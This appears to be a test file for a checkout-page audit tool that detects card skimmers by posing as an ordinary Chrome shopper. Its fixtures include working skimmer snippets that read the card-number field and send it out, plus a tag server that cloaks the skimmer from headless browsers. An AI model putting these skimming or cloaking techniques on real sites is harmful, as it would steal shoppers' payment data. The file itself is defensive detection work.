import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumArgs, chromiumPath } from '../../scripts/chromium.mjs';
import { launchChromium } from '../../src/audit/browser/driver.js';
import { runCli } from '../../src/audit/main.js';
import type { Report } from '../../src/audit/report.js';
import { freshCanaryCard } from '../../src/audit/canary/card.js';
import { cleanShop, STRICT_CSP } from './shop.js';
import { received, shopAsShopper } from './shopper.js';
import { approveAll, startSite, type Site } from './site.js';

/** A third-party tag's server: what it answers, and every request it got, with its headers. */
interface TagServer {
  origin: string;
  /** `clean` to everyone, or `cloaked`: clean to a headless browser, the skimmer to the others. */
  mode: 'clean' | 'cloaked';
  requests: { path: string; headers: IncomingHttpHeaders }[];
  close(): Promise<void>;
}

const CLEAN_TAG = `window.tagLoaded = true;`;
/** The same vendor's skimming body: reads the card on submit (never reached here: the drift is the body). */
const SKIMMING_TAG = `document.addEventListener('submit', () => {
  const card = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  navigator.sendBeacon('/c', card.value);
}, true); window.tagLoaded = true;`;

const looksHeadless = (headers: IncomingHttpHeaders) =>
  /Headless/i.test(`${headers['user-agent']} ${headers['sec-ch-ua']}`);

async function startTagServer(): Promise<TagServer> {
  const tag = { mode: 'clean' as TagServer['mode'], requests: [] as TagServer['requests'] };
  const server: Server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://tag').pathname;
    tag.requests.push({ path, headers: request.headers });
    const body =
      tag.mode === 'cloaked' && !looksHeadless(request.headers) ? SKIMMING_TAG : CLEAN_TAG;
    response.writeHead(200, {
      'Content-Type': 'text/javascript',
      'Cache-Control': 'no-store',
      // A vendor that asks for the full client hints, as fingerprinting tags do.
      'Accept-CH': 'Sec-CH-UA-Full-Version-List, Sec-CH-UA-Model, Sec-CH-UA-Platform-Version',
      'Access-Control-Allow-Origin': '*',
    });
    response.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return Object.assign(tag, {
    origin: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  });
}

let browser: Browser;
let site: Site;
let tag: TagServer;
let dir: string;
let inventory: string;

beforeAll(async () => {
  browser = await launchChromium({ chromium });
  site = await startSite();
  tag = await startTagServer();
  dir = mkdtempSync(join(tmpdir(), 'card-tokenizer-audit-profile-'));
  inventory = join(dir, 'inventory.json');
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  await tag?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function audit(args: string[]) {
  const json = join(dir, 'evidence.json');
  rmSync(json, { force: true });
  const out: string[] = [];
  const status = await runCli(
    [`${site.origin}/checkout`, '--inventory', inventory, '--json', json, ...args],
    {
      stdout: (text) => out.push(text),
      stderr: (text) => out.push(text),
      integrityFile: 'dist/integrity.json',
      browser,
    },
  );
  const report = JSON.parse(readFileSync(json, 'utf8')) as Report;
  return { status, stdout: out.join('\n'), report, drifts: report.drifts ?? [] };
}

/** The clean shop with the tag (and `extra` scripts), its inventory written and approved. */
async function approvedShopWithTag(extra: { path: string; body: string }[] = []) {
  tag.mode = 'clean';
  cleanShop(site, extra);
  const html = site.files.get('/checkout')!;
  site.files.set(
    '/checkout',
    html.replace(
      '</head>',
      `<script nonce="{nonce}" src="${tag.origin}/tag.js" defer></script>\n</head>`,
    ),
  );
  site.headers['Content-Security-Policy'] = STRICT_CSP;
  rmSync(inventory, { force: true });
  await audit(['--update']);
  approveAll(inventory);
  const clean = await audit([]);
  expect(clean.drifts).toEqual([]);
  expect(clean.status).toBe(0);
}

const kinds = (drifts: { kind: string; where: string }[]) =>
  drifts.map(({ kind, where }) => `${kind} ${where}`);

describe('card-tokenizer-audit presents as a shopper', () => {
  it('fails when a tag serves its clean body to headless browsers and a skimmer to shoppers', async () => {
    await approvedShopWithTag();
    tag.mode = 'cloaked';
    tag.requests.splice(0);
    const run = await audit([]);
    expect(kinds(run.drifts)).toEqual([
      `script-changed ${tag.origin}/tag.js`,
      `listener-added submit on document by ${tag.origin}/tag.js`,
    ]);
    expect(run.status).toBe(1);
    // What the tag's server saw: a Chrome, in the User-Agent and in the client hints.
    const [request] = tag.requests;
    expect(request.headers['user-agent']).toMatch(/ Chrome\/\d+\.0\.0\.0 /);
    expect(request.headers['user-agent']).not.toMatch(/Headless/i);
    expect(request.headers['sec-ch-ua']).toMatch(/"Chromium";v="\d+"/);
    expect(request.headers['sec-ch-ua']).not.toMatch(/Headless/i);
    // Control: what the audit's browser sent before, HeadlessChrome, still gets the clean body.
    const headless = await fetch(`${tag.origin}/tag.js`, {
      headers: {
        'User-Agent': request.headers['user-agent']!.replace('Chrome/', 'HeadlessChrome/'),
      },
    });
    expect(await headless.text()).toBe(CLEAN_TAG);
  });

  it('wakes a skimmer that stays dormant under navigator.webdriver, and the canary catches it', async () => {
    const dormant = `document.addEventListener('submit', () => {
  if (navigator.webdriver) return;
  const card = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  fetch('/collect', { method: 'POST', body: card.value.replace(/\\D/g, '') });
}, true);`;
    await approvedShopWithTag([{ path: '/reviews.js', body: dormant }]);
    const run = await audit(['--canary']);
    expect(run.report.profile.webdriver).toBe(false);
    expect(run.drifts).toContainEqual(
      expect.objectContaining({
        kind: 'card-data-leak',
        where: expect.stringMatching(/^request POST .*\/collect/),
      }),
    );
    expect(run.status).toBe(1);
    // Control: a shopper's visit in a browser that announces automation, as the audit's did, pays
    // and sends the card nowhere: the skimmer was woken by the audit's profile, not by chance.
    const robot = await chromium.launch({ executablePath: chromiumPath, args: chromiumArgs });
    try {
      const card = freshCanaryCard();
      site.requests.splice(0);
      await shopAsShopper(robot, site, card, {
        ready: async (page) => expect(await page.evaluate(() => navigator.webdriver)).toBe(true),
      });
      expect(site.requests.map(({ path }) => path)).toContain('/pay');
      expect(received(site, card)).toEqual([]);
    } finally {
      await robot.close();
    }
  });

  it('presents as a desktop Chrome by default, in the page language', async () => {
    cleanShop(site, [{ path: '/probe.js', body: PROBE }]);
    site.files.set('/checkout', site.files.get('/checkout')!.replace('lang="en"', 'lang="fr"'));
    rmSync(inventory, { force: true });
    site.requests.splice(0);
    const run = await audit(['--update']);
    const seen = await probed();
    expect(seen.page).toMatchObject({
      webdriver: false,
      mobile: false,
      touch: 0,
      inner: [1920, 947],
      screen: [1920, 1080],
      languages: ['fr-FR'],
    });
    expect(seen.page.ua).not.toMatch(/Headless/i);
    expect(seen.page.brands.join()).not.toMatch(/Headless/i);
    expect(seen.page.brands.join()).toMatch(/Chromium/);
    expect(seen.headers['accept-language']).toMatch(/^fr-FR/);
    expect(seen.headers['sec-ch-ua-mobile']).toBe('?0');
    expect(run.report.profile).toMatchObject({
      name: 'desktop',
      webdriver: false,
      viewport: '1920×947',
    });
  });

  it.each([
    [['--as', 'mobile'], /Android .* Mobile Safari/, 'mobile (Pixel 8)'],
    [['--device', 'Galaxy S24'], /Android .*SM-S921/, 'Galaxy S24'],
  ])('%j presents as a phone, as the page sees it', async (args, ua, name) => {
    cleanShop(site, [{ path: '/probe.js', body: PROBE }]);
    rmSync(inventory, { force: true });
    site.requests.splice(0);
    const run = await audit(['--update', ...args]);
    const seen = await probed();
    expect(seen.page.ua).toMatch(ua);
    expect(seen.page.ua).toMatch(/ Chrome\/\d+\.0\.0\.0 /);
    expect(seen.page).toMatchObject({ webdriver: false, mobile: true, coarse: true });
    expect(seen.page.touch).toBeGreaterThan(0);
    expect((seen.page.screen as number[])[0]).toBeLessThan(500);
    expect(seen.headers['sec-ch-ua-mobile']).toBe('?1');
    expect(seen.headers['sec-ch-ua-platform']).toBe('"Android"');
    expect(run.report.profile).toMatchObject({ name, mobile: true });
  });

  it.each([
    [['--device', 'Nokia 3310'], /^card-tokenizer-audit: expected --device .*"Nokia 3310"$/],
    [
      ['--as', 'tablet'],
      /^card-tokenizer-audit: expected --as to be desktop or mobile, got "tablet"$/,
    ],
    [
      ['--as', 'mobile', '--device', 'Pixel 7'],
      /^card-tokenizer-audit: expected --as or --device, not both$/,
    ],
    [['--locale', 'not a tag'], /^card-tokenizer-audit: expected --locale to be a language tag/],
  ])('refuses %j in one line, exit 2', async (args, message) => {
    writeFileSync(
      inventory,
      JSON.stringify({
        version: 1,
        page: '/',
        scripts: [],
        headers: [],
        frames: [],
        listeners: [],
      }),
    );
    const out: string[] = [];
    const status = await runCli([`${site.origin}/checkout`, '--inventory', inventory, ...args], {
      stdout: () => {},
      stderr: (text) => out.push(text),
      integrityFile: 'dist/integrity.json',
      browser,
    });
    expect(status).toBe(2);
    expect(out).toEqual([expect.stringMatching(message)]);
  });
});

/** A page script that tells what it sees of the browser, to the tag's server. */
const PROBE = `const data = navigator.userAgentData;
const seen = { ua: navigator.userAgent, brands: data ? data.brands.map((b) => b.brand) : [],
  mobile: data ? data.mobile : null, webdriver: navigator.webdriver, languages: navigator.languages,
  inner: [innerWidth, innerHeight], screen: [screen.width, screen.height], touch: navigator.maxTouchPoints,
  coarse: matchMedia('(pointer: coarse)').matches };
fetch('/seen', { method: 'POST', body: JSON.stringify(seen) });`;

/** What the probe posted, and the headers its request carried. */
async function probed(): Promise<{
  page: { ua: string; brands: string[]; inner: number[]; touch: number } & Record<string, unknown>;
  headers: IncomingHttpHeaders;
}> {
  const request = site.requests.filter(({ path }) => path === '/seen').pop();
  expect(request, 'the probe reported').toBeDefined();
  return { page: JSON.parse(request!.body), headers: request!.headers };
}
